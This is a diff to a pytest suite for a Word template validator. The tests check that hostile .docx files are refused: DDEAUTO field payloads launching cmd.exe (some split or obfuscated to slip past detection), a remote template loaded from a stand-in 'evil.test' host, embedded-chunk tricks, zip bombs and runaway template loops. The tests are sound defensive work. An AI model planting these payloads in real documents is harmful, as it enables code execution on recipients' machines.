@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import time
 import zipfile
 from dataclasses import replace
 from datetime import date
@@ -10,6 +11,9 @@ from pathlib import Path
 
 import docx
 import pytest
+from docx.opc.constants import RELATIONSHIP_TYPE
+from docx.opc.packuri import PackURI
+from docx.opc.part import Part
 
 from daemon.documents.forms.guard import MOST_BYTES, FormFault
 from daemon.documents.forms.own_forms import (
@@ -44,6 +48,23 @@ def with_part(name: str, data: bytes) -> bytes:
                 new.writestr(part, old.read(part))
         new.writestr(name, data)
     return held.getvalue()
+
+
+def with_body(xml: str) -> bytes:
+    """A Word file with this paragraph before its own."""
+    with zipfile.ZipFile(io.BytesIO(word("{{ chu_de }}"))) as made:
+        document = made.read("word/document.xml").decode()
+    return with_part("word/document.xml", document.replace("<w:body>", f"<w:body><w:p>{xml}</w:p>").encode())
+
+
+def damaged(method: int) -> bytes:
+    """A Word file whose long part is packed by this method and broken in its middle."""
+    held = io.BytesIO()
+    with zipfile.ZipFile(held, "w", method) as archive:
+        archive.writestr("word/document.xml", bytes(range(256)) * 400)
+    data = bytearray(held.getvalue())
+    data[60:90] = b"\xff" * 30
+    return bytes(data)
 
 
 def fault(data: bytes, kind: str = "plan") -> str:
@@ -117,7 +138,15 @@ RELATIONS = (
     b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
     b'Target="http://evil.test/x.dotm" TargetMode="External"/></Relationships>'
 )
-DDE = b'<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText>'
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+DDE = f'<w:instrText {W}>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText>'.encode()
+SIGN_BEFORE_MODE = RELATIONS.replace(b'Target="', b'Target="x>')
+CHUNK = RELATIONS.replace(b"attachedTemplate", b"aFChunk").replace(b' TargetMode="External"', b"")
+
+
+def field(*runs: str) -> bytes:
+    """A Word file with a field whose instruction stands in these runs."""
+    return with_body("".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in runs))
 
 
 @pytest.mark.parametrize(
@@ -133,13 +162,74 @@ DDE = b'<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrTe
         (with_part("word/embeddings/oleObject1.bin", b"x"), "có macro hoặc tệp nhúng"),
         (with_part("word/_rels/settings.xml.rels", RELATIONS), "tự tải tệp từ nơi khác"),
         (with_part("word/footer9.xml", DDE), "tự lấy nội dung từ nơi khác"),
-        (with_part("word/document.xml", b"<broken"), "thân văn bản"),
+        (with_part("word/document.xml", b"<broken"), "word/document.xml: không đọc được"),
+        (field("ddeauto c:\\\\x"), "tự lấy nội dung từ nơi khác"),
+        (field("D", "DEAUTO c:\\\\x"), "tự lấy nội dung từ nơi khác"),
+        (field("D{# so #}DEAUTO c:\\\\x"), "tự lấy nội dung từ nơi khác"),
+        (with_part("word/footer9.xml", DDE.decode().encode("utf-16")), "word/footer9.xml: không"),
+        (with_part("word/media/footer9.png", DDE), "tự lấy nội dung từ nơi khác"),
+        (with_part("word/_rels/settings.xml.rels", SIGN_BEFORE_MODE), "tự tải tệp từ nơi khác"),
+        (with_part("word/_rels/document.xml.rels", CHUNK), "có macro hoặc tệp nhúng"),
+        (with_body("</w:p><w:altChunk/><w:p>"), "chèn một tệp khác vào"),
+        (damaged(zipfile.ZIP_DEFLATED), "không mở được như tệp Word"),
+        (damaged(zipfile.ZIP_LZMA), "không mở được như tệp Word"),
+        (damaged(zipfile.ZIP_BZIP2), "không mở được như tệp Word"),
         (word(*["{{ chu_de }}"] * 1001), "hơn 1000 chỗ điền"),
     ],
-    ids=["text", "zip", "large", "bomb", "long", "dtd", "macro", "embedded", "template", "dde", "broken", "tags"],
+    ids=[
+        *("text", "zip", "large", "bomb", "long", "dtd", "macro", "embedded", "template", "dde", "broken"),
+        *("small letters", "two runs", "put together", "utf-16", "other name", "sign in attribute", "chunk"),
+        *("alt chunk", "deflate", "lzma", "bzip2", "tags"),
+    ],
 )
 def test_a_hostile_or_huge_file_is_refused(data: bytes, told: str) -> None:
     assert told in fault(data)
+
+
+def test_a_link_and_a_field_of_the_page_may_stand_in_a_form() -> None:
+    link = RELATIONS.replace(b"attachedTemplate", b"hyperlink").replace(b"r1", b"r99")
+    for data in (
+        field(" PAGE "), field('HYPERLINK "https://haiphong.test/import/hidden"'),
+        with_part("word/_rels/footer9.xml.rels", link),
+    ):  # fmt: skip
+        assert list(form_faults({"plan": WordForm(NAMES["plan"], data)})) == []
+
+
+@pytest.mark.parametrize(
+    ("paragraph", "told"),
+    [
+        ("{% for a in chu_de %}{{ a }}{% endfor %}", "chỉ đi qua được danh sách"),
+        ("{% for a in 'abc' %}{% endfor %}", "chỉ đi qua được danh sách"),
+        (
+            "{% for a in ly_do %}{% for b in ly_do %}{% for c in ly_do %}{% endfor %}{% endfor %}{% endfor %}",
+            "quá dài",
+        ),
+        ("{% for a in ly_do %}{% for b in ly_do %}{{ chu_de }}{% endfor %}{% endfor %}", "quá dài"),
+        ("{% for a in ly_do %}" + "Một đoạn dài. " * 5000 + "{% endfor %}", "quá dài"),
+    ],
+    ids=["text", "constant", "rounds", "value", "own words"],
+)
+def test_no_form_runs_for_long(paragraph: str, told: str) -> None:
+    """A loop over the letters of a text is refused, and rounds are counted before they run."""
+    values = {"chu_de": "Cấp phép " * 100, "ly_do": ["x"] * 300}
+    began = time.process_time()
+    with pytest.raises(FormFault, match=told):
+        filled("to-trinh.docx", word(paragraph), values)
+    assert time.process_time() - began < 2
+
+
+def test_notes_at_the_end_are_approved_too() -> None:
+    file = docx.Document()
+    file.add_paragraph("{{ chu_de }}")
+    note = f"<w:endnotes {W}><w:endnote><w:p><w:r><w:t>Ghi chú cuối</w:t></w:r></w:p></w:endnote></w:endnotes>"
+    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.endnotes+xml"
+    package = file.part.package
+    assert package is not None
+    file.part.relate_to(Part(PackURI("/word/endnotes.xml"), kind, note.encode(), package), RELATIONSHIP_TYPE.ENDNOTES)
+    held = io.BytesIO()
+    file.save(held)
+    text = words(filled("ke-hoach.docx", held.getvalue(), samples("plan")[0]))
+    assert text.splitlines() == ["Cấp phép xây dựng", "Ghi chú cuối"]
 
 
 def test_a_file_that_is_no_word_file_is_refused() -> None:
